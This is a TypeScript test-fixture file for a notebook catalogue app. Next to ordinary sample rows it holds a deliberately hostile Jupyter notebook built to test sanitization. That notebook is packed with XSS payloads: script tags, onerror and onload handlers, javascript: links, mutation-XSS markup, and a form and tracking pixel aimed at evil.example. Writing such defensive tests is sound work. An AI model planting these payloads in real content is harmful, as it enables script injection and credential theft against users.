import * as v from 'valibot'
import type { TableRow } from '#platform/test-support/fake-network.ts'
import { type Notebook, notebookSchema } from '../notebooks.api.ts'

type NotebookRow = TableRow<'notebooks'>

/** A row of the data API. */
export function aNotebookRow(overrides: NotebookRow = {}) {
  return {
    id: 1,
    title: 'Inundaciones en la cuenca del Plata con Sentinel-1',
    description: 'Detecta agua en imágenes de radar antes y después de una crecida.',
    category: 'satellite_data',
    difficulty: 'intermediate',
    tags: ['Sentinel-1', 'radar', 'inundaciones', 'Argentina', 'Paraná'],
    rating: 4.8,
    downloads: 1240,
    last_updated: '2026-03-12',
    download_url: '/notebooks/inundaciones.ipynb',
    cover_url: null,
    cover_alt: null,
    ...overrides,
  }
}

/** The same as it is read. */
export const aNotebook = (overrides: NotebookRow = {}): Notebook =>
  v.parse(notebookSchema, aNotebookRow(overrides))

export const threeRows = [
  aNotebookRow(),
  aNotebookRow({
    id: 2,
    title: 'Deforestación en el Gran Chaco',
    description: 'Dos décadas de cobertura boscosa.',
    category: 'google_earth_engine',
    difficulty: 'beginner',
    tags: ['bosques'],
    rating: 4,
    downloads: 1,
    download_url: '/notebooks/chaco.ipynb',
    cover_url: 'https://example.com/a.webp',
    cover_alt: 'Un mapa',
  }),
  aNotebookRow({
    id: 3,
    title: 'Edificios en Lima',
    description: 'Una red convolucional dibuja techos.',
    category: 'machine_learning',
    difficulty: 'advanced',
    tags: ['U-Net', 'PyTorch', 'Lima'],
    downloads: 12500,
    last_updated: '2024-01-05',
    download_url: '/notebooks/lima.ipynb',
  }),
]

/** A hostile notebook: it tries everything that an untrusted file must not achieve. */
export const hostileNotebook = JSON.stringify({
  nbformat: 4,
  nbformat_minor: 5,
  metadata: {},
  cells: [
    {
      cell_type: 'markdown',
      id: 'a',
      metadata: {},
      source: [
        '# Título honesto\n',
        '<script>window.pwned = "markdown"</script>\n',
        '<img src="x" onerror="window.pwned = \'onerror\'">\n\n',
        '[enlace trampa](javascript:alert(1)) y [enlace bueno](https://example.com/datos)\n\n',
        '<svg onload="window.pwned = \'svg\'"><a xlink:href="javascript:alert(1)"><text>svg</text></a></svg>\n\n',
        '<iframe srcdoc="<script>parent.pwned = 1</script>"></iframe><form action="https://evil.example"><input name="clave"></form>\n\n',
        '<a href="data:text/html,<script>alert(1)</script>">datos</a> <p style="position:fixed" class="fixed" id="root">vestido</p>\n',
        '<img src="https://evil.example/pixel.png" alt="espía">',
      ],
    },
    {
      cell_type: 'code',
      id: 'b',
      metadata: {},
      execution_count: 7,
      source: 'print("<b>código como texto</b>")',
      outputs: [
        { output_type: 'stream', name: 'stdout', text: ['\u001b[31m<script>texto</script>\u001b[0m\n'] },
        {
          output_type: 'display_data',
          metadata: {},
          data: {
            'text/html': [
              '<table onclick="window.pwned = 1"><tr><td>42 ha</td></tr></table><style>body{display:none}</style>',
              '<math><mtext></form><form><mglyph><style></math><img src onerror="window.pwned = \'mxss\'">',
            ],
            'text/plain': '42 ha',
          },
        },
        {
          output_type: 'display_data',
          metadata: {},
          data: { 'application/javascript': 'window.pwned = "js"' },
        },
        {
          output_type: 'display_data',
          metadata: {},
          data: { 'image/svg+xml': '<svg onload="window.pwned = 1"/>', 'text/plain': 'un dibujo' },
        },
        {
          output_type: 'display_data',
          metadata: { 'image/png': { alt: 'Mapa de agua' } },
          data: { 'image/png': 'iVBORw0KGgo=\n' },
        },
        {
          output_type: 'display_data',
          metadata: {},
          data: { 'image/png': '"><script>window.pwned = 1</script>' },
        },
        {
          output_type: 'error',
          ename: 'ValueError',
          evalue: '<img src=x onerror=alert(1)>',
          traceback: [],
        },
      ],
    },
  ],
})
